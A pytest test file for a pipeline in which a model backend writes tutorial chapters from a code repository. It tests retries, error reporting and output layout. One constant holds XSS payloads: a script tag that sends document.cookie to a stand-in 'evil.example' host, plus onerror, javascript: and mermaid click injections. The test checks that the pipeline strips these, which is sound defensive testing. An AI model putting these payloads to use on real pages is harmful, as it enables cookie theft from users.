from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from fondation_contracts.ingest import STEP_NAMES
from fondation_runner.backends.base import StepRequest
from fondation_runner.parser import parse_output
from fondation_runner.pipeline import AnalysisFailed, Pipeline, PipelineSettings
from tests.runner.helpers import SAMPLE_REPO, EventLog, ScriptedBackend

PARTS = [("Queue", "taskq/queue.py"), ("Worker", "taskq/worker.py"), ("Models", "taskq/models.py")]


def abstractions_answer(parts: list[tuple[str, str]]) -> str:
    return yaml.safe_dump(
        [{"name": n, "description": f"The {n}.", "file_paths": [f]} for n, f in parts]
    )


RELATIONSHIPS = yaml.safe_dump(
    {
        "summary": "A task queue.",
        "relationships": [
            {
                "from_abstraction": 1,
                "to_abstraction": 0,
                "label": "claims tasks from",
                "evidence": "taskq/worker.py:9",
            }
        ],
    }
)


def order_answer(ids: list[int]) -> str:
    return yaml.safe_dump(
        {"order": [{"index": i, "name": f"n{i}", "reasoning": "it fits here"} for i in ids]}
    )


def chapter(request: StepRequest) -> str:
    abstraction = request.inputs["abstraction"]
    number = request.inputs["position"] + 1
    return (
        f"# Chapter {number}: {abstraction['name']}\n\n"
        f"It lives in `{abstraction['file_paths'][0]}:1`.\n"
    )


def review(request: StepRequest) -> str:
    return str(request.inputs["chapter_markdown"]) + "\nChecked.\n"


def tutorial(request: StepRequest) -> str:
    """Step 6: a chapter's tutorial, or the overview (`page`), from the inputs."""
    if request.inputs["page"] == "overview":
        listed = "".join(
            f"{c['number']}. **{c['chapter_title']}**, then **{c['tutorial_title']}**\n"
            for c in request.inputs["chapters"]
        )
        return f"# The course\n\n{listed}"
    abstraction = request.inputs["abstraction"]
    return (
        f"# {request.inputs['title']}\n\n"
        f"Practise **{request.inputs['chapter_title']}**: start at "
        f"`{abstraction['file_paths'][0]}:1`.\n\n"
        "```python\nimport taskq\n```\n"
    )


def scripts(**overrides: object) -> dict[str, object]:
    base: dict[str, object] = {
        "abstractions": [abstractions_answer(PARTS)],
        "relationships": [RELATIONSHIPS],
        "order": [order_answer([2, 0, 1])],
        "chapters": chapter,
        "review": review,
        "tutorial": tutorial,
    }
    base.update(overrides)
    return base


def pipeline(
    backend: ScriptedBackend, tmp_path: Path, events: EventLog | None = None, **settings: object
) -> Pipeline:
    return Pipeline(
        backend,
        source_dir=SAMPLE_REPO,
        output_base=tmp_path,
        revision="0" * 40,
        settings=PipelineSettings(**settings),  # type: ignore[arg-type]
        sink=events or EventLog(),
    )


async def test_writes_fondations_layout_in_step3_order(tmp_path: Path) -> None:
    backend = ScriptedBackend(scripts())  # type: ignore[arg-type]
    events = EventLog()

    result = await pipeline(backend, tmp_path, events).run()

    out = tmp_path / ".claude-tutorial-output"
    assert result.output_dir == out
    assert not result.partial
    assert result.errors == []
    files = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())
    assert files == [
        "chapters/01_models.md",
        "chapters/02_queue.md",
        "chapters/03_worker.md",
        "reviewed-chapters/01_models.md",
        "reviewed-chapters/02_queue.md",
        "reviewed-chapters/03_worker.md",
        "step1_abstractions.yaml",
        "step2_relationships.yaml",
        "step3_order.yaml",
        "tutorials/index.md",
        "tutorials/tutorial_1_models.md",
        "tutorials/tutorial_2_queue.md",
        "tutorials/tutorial_3_worker.md",
    ]
    assert yaml.safe_load((out / "step1_abstractions.yaml").read_text())[1]["name"] == "Worker"
    assert (out / "chapters/02_queue.md").read_text().startswith("# Chapter 2: Queue")
    assert (
        "1. **Chapter 1: Models**, then **Interactive Tutorial: Models**"
        in (out / "tutorials/index.md").read_text()
    )
    tutorial_2 = (out / "tutorials/tutorial_2_queue.md").read_text()
    assert tutorial_2.startswith("# Interactive Tutorial: Queue\n")
    # Each tutorial practises the reviewed text of its chapter.
    [queue] = [r for r in backend.calls("tutorial") if r.inputs.get("position") == 1]
    assert queue.inputs["chapter_markdown"].endswith("Checked.\n")
    assert "## The chapter it practises" in queue.prompt
    # One started and one finished event per step, in order, with usage.
    started = [e.step_name for e in events.events if e.state.value == "started"]
    assert started == list(STEP_NAMES)
    finished = [e for e in events.events if e.state.value == "finished"]
    assert [e.step for e in finished] == [1, 2, 3, 4, 5, 6]
    assert [e.usage.llm_calls for e in finished if e.usage] == [1, 1, 1, 3, 3, 4]
    assert finished[-1].message == "3 of 3 chapters and the overview"
    assert result.usage.llm_calls == 13


async def test_refused_answer_is_retried_with_the_problem_in_the_prompt(tmp_path: Path) -> None:
    backend = ScriptedBackend(
        scripts(abstractions=["- name: [unclosed", abstractions_answer(PARTS)])  # type: ignore[arg-type]
    )
    events = EventLog()

    result = await pipeline(backend, tmp_path, events).run()

    first, second = backend.calls("abstractions")
    assert "previous answer was rejected" not in first.prompt
    assert second.prompt.startswith(first.prompt)
    assert "## Your previous answer was rejected" in second.prompt
    assert "the answer is not valid YAML" in second.prompt
    assert second.attempt == 2
    assert events.states("abstractions") == ["started", "retrying", "finished"]
    assert not result.partial


async def test_step_that_never_validates_is_reported_and_the_run_goes_on(tmp_path: Path) -> None:
    bad = RELATIONSHIPS.replace("to_abstraction: 0", "to_abstraction: 9")
    backend = ScriptedBackend(scripts(relationships=[bad]))  # type: ignore[arg-type]
    events = EventLog()

    result = await pipeline(backend, tmp_path, events, max_attempts=3).run()

    assert len(backend.calls("relationships")) == 3
    assert all("to_abstraction 9" in r.prompt for r in backend.calls("relationships")[1:])
    assert events.states("relationships") == ["started", "retrying", "retrying", "failed"]
    assert result.partial
    [error] = result.errors
    assert error.step == "relationships"
    assert "no valid answer after 3 attempts" in error.message
    assert "to_abstraction 9 is not an abstraction id" in error.message
    out = result.output_dir
    assert not (out / "step2_relationships.yaml").exists()
    assert len(list((out / "chapters").iterdir())) == 3  # the rest still ran
    assert backend.calls("order")[0].inputs["relationships"]["relationships"] == []


async def test_failed_order_falls_back_to_the_abstractions_order(tmp_path: Path) -> None:
    backend = ScriptedBackend(scripts(order=[order_answer([0, 0, 1])]))  # type: ignore[arg-type]

    result = await pipeline(backend, tmp_path, max_attempts=2).run()

    assert result.partial
    assert [e.step for e in result.errors] == ["order"]
    assert sorted(p.name for p in (result.output_dir / "chapters").iterdir()) == [
        "01_queue.md",
        "02_worker.md",
        "03_models.md",
    ]


async def test_a_failed_chapter_is_left_out_of_review_tutorials_and_overview(
    tmp_path: Path,
) -> None:
    def chapter_with_a_bad_citation(request: StepRequest) -> str:
        text = chapter(request)
        if request.inputs["abstraction"]["name"] == "Worker":
            text += "See `taskq/worker.py:999`.\n"
        return text

    backend = ScriptedBackend(scripts(chapters=chapter_with_a_bad_citation))  # type: ignore[arg-type]
    events = EventLog()

    result = await pipeline(backend, tmp_path, events).run()

    assert result.partial
    [error] = result.errors
    assert error.step == "chapters"
    assert error.message.startswith("chapter 3 (Worker): no valid answer after 3 attempts")
    assert "line 999 does not exist" in error.message
    assert len(backend.calls("chapters")) == 2 + 3
    assert {r.inputs["file_name"] for r in backend.calls("review")} == {
        "01_models.md",
        "02_queue.md",
    }
    assert {r.inputs.get("position") for r in backend.calls("tutorial")} == {0, 1, None}
    assert "Worker" not in (result.output_dir / "tutorials/index.md").read_text()
    assert not (result.output_dir / "tutorials/tutorial_3_worker.md").exists()
    finished = [e for e in events.events if e.step_name == "chapters"][-1]
    assert finished.state.value == "finished"
    assert finished.message == "2 of 3 chapters; failed: chapter 3 (Worker)"


async def test_nothing_to_teach_when_step_one_fails(tmp_path: Path) -> None:
    backend = ScriptedBackend(scripts(abstractions=["not: [yaml"]))  # type: ignore[arg-type]

    with pytest.raises(AnalysisFailed, match="not valid YAML"):
        await pipeline(backend, tmp_path, max_attempts=2).run()

    assert [r.step for r in backend.requests] == ["abstractions", "abstractions"]


async def test_max_chapters_is_enforced_through_feedback(tmp_path: Path) -> None:
    backend = ScriptedBackend(
        scripts(
            abstractions=[abstractions_answer(PARTS), abstractions_answer(PARTS[:2])],
            order=[order_answer([1, 0])],
        )  # type: ignore[arg-type]
    )

    result = await pipeline(backend, tmp_path, max_chapters=2).run()

    first, second = backend.calls("abstractions")
    assert "choose at most 2 of them" in " ".join(first.prompt.split())
    assert "3 abstractions given, at most 2 allowed" in second.prompt
    assert len(list((result.output_dir / "chapters").iterdir())) == 2


async def test_backend_errors_count_as_attempts(tmp_path: Path) -> None:
    calls = 0

    def flaky(request: StepRequest) -> str:
        nonlocal calls
        calls += 1
        if calls == 1:
            raise ConnectionError("reset by peer")
        return RELATIONSHIPS

    backend = ScriptedBackend(scripts(relationships=flaky))  # type: ignore[arg-type]
    events = EventLog()

    result = await pipeline(backend, tmp_path, events).run()

    assert not result.partial
    retry = next(e for e in events.events if e.state.value == "retrying")
    assert "the backend failed: ConnectionError: reset by peer" in retry.message


@pytest.mark.parametrize("parallelism", [1, 3])
async def test_parallel_calls_are_bounded(tmp_path: Path, parallelism: int) -> None:
    files = ["README.md", "taskq/__init__.py", "taskq/cli.py", "taskq/models.py"]
    files += ["taskq/queue.py", "taskq/retry.py", "taskq/storage.py", "taskq/worker.py"]
    parts = [(f"Part {n}", f) for n, f in enumerate(files)]
    backend = ScriptedBackend(
        scripts(abstractions=[abstractions_answer(parts)], order=[order_answer(list(range(8)))]),  # type: ignore[arg-type]
        delay=0.02,
    )

    await pipeline(backend, tmp_path, parallelism=parallelism).run()

    assert len(backend.calls("chapters")) == 8
    assert backend.max_in_flight == parallelism


async def test_previous_output_is_replaced(tmp_path: Path) -> None:
    stale = tmp_path / ".claude-tutorial-output" / "chapters" / "09_stale.md"
    stale.parent.mkdir(parents=True)
    stale.write_text("# old\n")

    await pipeline(ScriptedBackend(scripts()), tmp_path).run()  # type: ignore[arg-type]

    assert not stale.exists()


async def test_oversized_files_are_reported(tmp_path: Path) -> None:
    source = tmp_path / "src"
    source.mkdir()
    (source / "main.py").write_text("def main():\n    pass\n")
    (source / "dump.sql").write_text("-- data\n" * 20_000)
    backend = ScriptedBackend(
        scripts(
            abstractions=[abstractions_answer([("Main", "main.py")])],
            relationships=["summary: one file.\nrelationships: []\n"],
            order=[order_answer([0])],
        )  # type: ignore[arg-type]
    )

    result = await Pipeline(backend, source_dir=source, output_base=tmp_path / "out").run()

    [error] = result.errors
    assert error.path == "dump.sql"
    assert "over the 100 KB limit" in error.message
    assert not result.partial
    assert "`dump.sql`: 160 KB, over the 100 KB limit" in backend.calls("abstractions")[0].prompt


HOSTILE_MARKDOWN = (
    "\n\n<script>fetch('https://evil.example/'+document.cookie)</script>\n"
    "<img src=x onerror=alert(1)> <iframe src=https://evil.example></iframe>\n"
    "[docs](javascript:alert(1)) ![logo](data:image/svg+xml;base64,PHN2Zz4=)\n"
    "NUL\x00 and \x1b[31mred\x1b[0m and \u202eevil\n\n"
    "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD\n  A --> B\n"
    '  click A "javascript:alert(1)"\n```\n'
)


async def test_a_hostile_model_answer_is_neutralised_before_publishing(tmp_path: Path) -> None:
    def hostile_chapter(request: StepRequest) -> str:
        return chapter(request) + HOSTILE_MARKDOWN

    backend = ScriptedBackend(scripts(chapters=hostile_chapter))  # type: ignore[arg-type]

    result = await pipeline(backend, tmp_path).run()
    course = parse_output(result.output_dir)

    published = [d for d in course.documents if d.kind.value in ("chapter", "tutorial")]
    assert len(published) == 9  # 3 chapters, 3 reviews, 3 tutorials
    written = [p.read_text() for p in (result.output_dir / "chapters").iterdir()]
    for text in [*(d.content for d in published), *written]:
        for hostile in ("<script", "<img", "<iframe", "javascript:", "data:", "click A", "%%{"):
            assert hostile not in text, hostile
        assert not {"\x00", "\x1b", "\u202e"} & set(text)
    assert "graph TD" in written[0] and "&lt;script>" in written[0]


async def test_tutorials_are_checked_like_chapters_and_the_overview_may_fail_alone(
    tmp_path: Path,
) -> None:
    """A tutorial that links to a file is asked again with why; an overview that never
    validates is reported and costs the course nothing else."""

    def step6(request: StepRequest) -> str:
        if request.inputs["page"] == "overview":
            return "# The course\n\nStart with [the first chapter](../chapters/01_models.md).\n"
        text = tutorial(request)
        if request.inputs["position"] == 0 and request.attempt == 1:
            text += "\nRead [the chapter](../chapters/01_models.md) again.\n"
        return text

    backend = ScriptedBackend(scripts(tutorial=step6))  # type: ignore[arg-type]
    events = EventLog()

    result = await pipeline(backend, tmp_path, events, max_attempts=2).run()

    first = [r for r in backend.calls("tutorial") if r.inputs.get("position") == 0]
    assert [r.attempt for r in first] == [1, 2]
    assert "would not work where the course is read" in first[1].prompt
    assert result.partial
    [error] = result.errors
    assert error.step == "tutorial"
    assert error.message.startswith("overview: no valid answer after 2 attempts")
    out = result.output_dir / "tutorials"
    assert sorted(p.name for p in out.iterdir()) == [
        "tutorial_1_models.md",
        "tutorial_2_queue.md",
        "tutorial_3_worker.md",
    ]
    assert events.states("tutorial") == ["started", "retrying", "retrying", "finished"]
    assert [e.message for e in events.events if e.state.value == "finished"][-1] == (
        "3 of 3 chapters; failed: overview"
    )
